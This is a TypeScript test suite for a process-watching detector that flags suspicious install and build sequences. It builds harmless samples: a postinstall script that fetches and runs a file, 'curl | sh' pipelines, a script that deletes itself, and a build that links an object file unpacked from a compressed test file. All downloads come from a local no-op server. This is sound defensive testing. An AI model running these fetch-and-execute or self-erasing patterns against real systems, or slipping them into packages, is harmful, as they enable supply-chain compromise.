import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { join } from 'node:path';
import type { TestContext } from 'node:test';
import { assertClean } from './clean.ts';
import { underEachSensor } from './each-sensor.ts';
import { environment, succeeds } from './program.ts';
import { roleNames, type WatchedRun, watchedRun } from './watched-run.ts';
import { checkout, directory, packedNpm } from './workplace.ts';

/** A server of this machine that gives everybody a shell script which does nothing; returns its address. */
async function downloads(t: TestContext): Promise<string> {
  const server = createServer((_, response) => response.end('#!/bin/sh\ntrue\n'));
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
  t.after(() => server.close());
  const address = server.address();
  assert.ok(typeof address === 'object' && address !== null);
  return `http://127.0.0.1:${address.port}`;
}

/** Installs a package with a postinstall and what else it brings. */
async function install(t: TestContext, postinstall: string, files: Record<string, string> = {}): Promise<WatchedRun> {
  const manifest = { name: 'left-pads', version: '1.0.0', scripts: { postinstall } };
  const tarball = await packedNpm(directory(t), manifest, { 'index.js': '', ...files });
  const cwd = await checkout(t, { 'package.json': '{"name":"project","version":"1.0.0"}' });
  return watchedRun(['npm', 'install', '--offline', '--foreground-scripts', tarball], { cwd });
}

const sequences = ({ document }: WatchedRun): string[] =>
  document.findings
    .filter(({ kind }) => kind === 'sequence')
    .map(({ rule }) => rule)
    .toSorted();

const message = ({ document }: WatchedRun, rule: string): string =>
  document.findings.find((one) => one.rule === rule)?.message ?? '';

underEachSensor('what a postinstall fetches and runs, and that it then deletes itself, are sequences', async (t) => {
  const url = await downloads(t);
  const place = directory(t);
  const payload = join(place, 'p');
  const script = `const { execSync } = require('node:child_process');
execSync('curl -so ${payload} ${url}/p && chmod +x ${payload} && ${payload}');
execSync('curl -s ${url}/s | sh');
require('node:fs').unlinkSync(__filename);
`;
  const run = await install(t, 'node setup.js', { 'setup.js': script });
  assert.deepEqual(sequences(run), ['drop-exec', 'pipe-to-interpreter', 'self-erase'], run.stderr);
  assert.match(
    message(run, 'drop-exec'),
    /: curl connected to loopback \d+\.\d s before, curl wrote it, chmod made it executable \d+\.\d s before, sh ran \S+\/p$/,
  );
  assert.match(message(run, 'pipe-to-interpreter'), /: curl wrote into a pipe.*, sh ran what came out of it/);
  assert.match(message(run, 'self-erase'), /ran \S+\/setup\.js \d+\.\d s before, setup\.js deleted \S+\/setup\.js$/);
  const [erased] = run.document.findings.filter(({ rule }) => rule === 'self-erase');
  assert.match(roleNames(erased?.rolePath ?? []), /^run › npm › lifecycle:left-pads › sh › setup\.js$/);
});

underEachSensor(
  'a postinstall that writes a program and runs it without fetching anything makes no sequence',
  async (t) => {
    const run = await install(t, 'echo true > x.sh && sh x.sh && rm x.sh && echo true | sh');
    assert.deepEqual(sequences(run), [], run.stderr);
  },
);

underEachSensor('curl … | sh as a step warns below the usual threshold; data for a named program do not', async (t) => {
  const url = await downloads(t);
  const cwd = await checkout(t);
  const run = await watchedRun(['bash', '-c', `curl -s ${url} | sh; bash <(curl -s ${url}); :`], { cwd });
  assert.deepEqual(sequences(run), ['pipe-to-interpreter', 'pipe-to-interpreter'], run.stderr);
  assert.ok(message(run, 'pipe-to-interpreter').includes('curl wrote into a pipe'));
  assert.deepEqual(
    run.document.findings.map(({ c }) => c),
    [0.6, 0.6],
    'through a pipe, and through a descriptor',
  );
  assert.equal(run.document.risk.score, 3.6);
  assert.equal(run.status, 0);
  const data = `curl -s ${url} | cat > page; curl -s ${url} | python3 -c 'import sys; sys.stdin.read()'`;
  assertClean(await watchedRun(['bash', '-c', data], { cwd }));
});

underEachSensor('an object file that comes out of a compressed test file is linked: foreign-writer', async (t) => {
  const cwd = await checkout(t, {
    'main.c': 'int part(void);\nint main(void) { return part(); }\n',
    'part.c': 'int part(void) { return 0; }\n',
  });
  await succeeds(['sh', '-c', 'cc -c part.c && xz -c part.o > good.xz && rm part.o'], { cwd });
  const evil = 'xz -dc good.xz > part.o && cc -c main.c && cc -o program main.o part.o && ./program';
  const run = await watchedRun(['sh', '-c', evil], { cwd, env: environment() });
  assert.deepEqual(sequences(run), ['foreign-writer'], run.stderr);
  const [found] = run.document.findings;
  assert.deepEqual(found?.seen.targets, ['${workspace}/part.o']);
  assert.match(found?.message ?? '', /: (sh|xz) wrote it, ld\S* read \$\{workspace\}\/part\.o$/);
  assertClean(
    await watchedRun(['sh', '-c', 'rm part.o && cc -c part.c && cc -o program main.o part.o && ./program'], { cwd }),
  );
});
